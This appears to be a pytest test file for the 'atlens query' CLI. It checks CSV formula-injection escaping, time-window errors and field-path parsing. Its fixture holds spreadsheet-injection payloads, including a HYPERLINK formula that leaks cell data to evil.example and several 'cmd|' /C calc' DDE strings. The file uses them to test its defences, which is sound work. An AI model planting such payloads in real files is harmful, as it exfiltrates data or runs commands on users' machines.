"""What `atlens query` writes: CSV a spreadsheet can open safely, headers, time zones, error records."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from tests.cli.helpers import ATLENS, assert_usage_error, jsonl, make_event, run

#: Log content a spreadsheet would run as a formula if a cell started with it.
FORMULAS = {
    "message": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "initiator": "+cmd|' /C calc'!A0",
    "target": "@SUM(1+1)*cmd|' /C calc'!A0",
    "action": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.log"
    event = make_event(FORMULAS["action"], 1, message=FORMULAS["message"],
                       initiator={"name": FORMULAS["initiator"], "id": "IBMid-1"},
                       target={"name": FORMULAS["target"], "id": "x"},
                       reason={"reasonCode": -5}, requestData={"note": "\tTAB=1", "ok": "fine, with \"quotes\""})
    path.write_bytes(jsonl([event]) + b"=1+1 is not an event\n")
    return path


def cells(result) -> list[list[str]]:
    assert result.returncode in (0, 1), result.stderr.decode()
    return list(csv.reader(io.StringIO(result.stdout.decode(), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), row


def test_csv_events_cannot_start_a_formula_in_a_spreadsheet(hostile):
    rows = cells(run(str(hostile), "--format", "csv"))
    assert_no_formula(rows)
    record = dict(zip(rows[0], rows[1]))
    # The text stays readable after the quote a spreadsheet hides.
    assert record["message"] == "'" + FORMULAS["message"]
    assert record["initiator"] == "'" + FORMULAS["initiator"]
    assert record["target"] == "'" + FORMULAS["target"]
    assert record["action"] == "'" + FORMULAS["action"]


def test_csv_fields_cannot_start_a_formula_and_negative_numbers_stay_numbers(hostile):
    rows = cells(run(str(hostile), "--fields", "action,initiator,code,requestData.note,requestData.ok", "--format", "csv"))
    assert_no_formula(rows)
    # A leading tab is shown escaped (a backslash starts the cell); -5 is a number, not a formula.
    assert rows[1] == ["'" + FORMULAS["action"], "'" + FORMULAS["initiator"], "-5", "\\tTAB=1", 'fine, with "quotes"']


def test_csv_stats_cannot_start_a_formula(hostile):
    rows = cells(run(str(hostile), "--stats", "target", "--stats", "action", "--format", "csv"))
    assert_no_formula(rows)
    assert rows[1] == ["1", "'" + FORMULAS["target"], "'" + FORMULAS["action"]]


def test_jsonl_keeps_the_exact_text(hostile):
    result = run(str(hostile), "--format", "jsonl")
    event = json.loads(result.stdout)
    assert event["message"] == FORMULAS["message"]
    assert event["initiator"]["name"] == FORMULAS["initiator"]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "activity.log"
    path.write_bytes(jsonl([make_event("iam-am.policy.update", s) for s in (0, 10, 20)]))
    return path


@pytest.mark.parametrize(("since", "until"), [
    ("2026-11-20T10:00:15Z", "2026-11-20T10:00:05Z"),  # later
    ("2026-11-20T10:00:05Z", "2026-11-20T10:00:05Z"),  # the same moment: [since, until) holds nothing
    ("1h", "2h"),  # an hour ago is after two hours ago
])
def test_since_not_before_until_is_a_usage_error(log, since, until):
    err = assert_usage_error(run(str(log), "--since", since, "--until", until), "--since", "--until")
    assert since in err and until in err


def test_since_not_before_until_is_told_before_the_screen_opens(log):
    result = subprocess.run([*ATLENS, str(log), "--since", "1h", "--until", "2h"], capture_output=True,
                            stdin=subprocess.DEVNULL, timeout=20)
    assert_usage_error(result, "--since", "--until")


@pytest.mark.parametrize("option", ["--fields", "--stats"])
@pytest.mark.parametrize(("field", "reason"), [
    ("a[", '["key"]'),  # a bracket that opens no quoted key
    ("requestData]", '["key"]'),
    ('requestData["lock"', '"]"'),
    ("initiator name", "space"),  # two names where one was meant: not a field that no event has
])
def test_a_field_that_cannot_be_read_is_a_usage_error_with_the_reason(log, option, field, reason):
    err = assert_usage_error(run(str(log), option, field), option, reason)
    assert field in err


def test_quoted_keys_and_escapes_are_still_fields(tmp_path):
    path = tmp_path / "keys.log"
    path.write_bytes(jsonl([make_event("a.b.c", 1, requestData={"a[b": "x", "token.id": "y"})]))
    result = run(str(path), "--fields", 'requestData["a[b"],requestData.a\\[b,requestData["token.id"]', "--format", "csv")
    assert result.returncode == 0, result.stderr.decode()
    assert cells(result)[1] == ["x", "x", "y"]
